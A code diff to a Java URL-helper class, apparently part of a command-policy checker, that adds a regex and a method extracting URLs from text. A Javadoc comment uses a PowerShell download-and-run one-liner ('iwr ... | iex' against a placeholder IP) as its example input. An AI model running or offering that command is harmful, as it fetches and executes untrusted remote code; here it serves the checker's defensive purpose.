@@ -1,6 +1,8 @@
 package dev.lighthouse.policy.facts;
 
 import com.google.re2j.Pattern;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Locale;
 import java.util.Optional;
 
@@ -12,6 +14,19 @@ final class Urls {
     private static final Pattern IPV4 = Pattern.compile("^\\d{1,3}(\\.\\d{1,3}){3}$");
     private static final Pattern NUMERIC_HOST = Pattern.compile("^(0x[0-9a-fA-F]+|\\d{8,10})$");
     private static final Pattern HOST_PORT = Pattern.compile("^[A-Za-z0-9.-]+(:\\d{1,5})?(/.*)?$");
+
+    /** A URL written anywhere in a text: a scheme, {@code ://}, and what follows up to a space, quote or bracket. */
+    private static final Pattern IN_TEXT = Pattern.compile("[a-zA-Z][a-zA-Z0-9+.-]*://[^\\s'\"`()<>|;,]+");
+
+    /** The URLs written in code, in order ({@code iwr http://203.0.113.9/a.ps1 | iex}). */
+    static List<String> inText(String text) {
+        List<String> urls = new ArrayList<>();
+        var m = IN_TEXT.matcher(text);
+        while (m.find()) {
+            urls.add(m.group());
+        }
+        return urls;
+    }
 
     static boolean isUrl(String word) {
         // Asked of every argument: most have no "://", and finding that needs no regular expression.
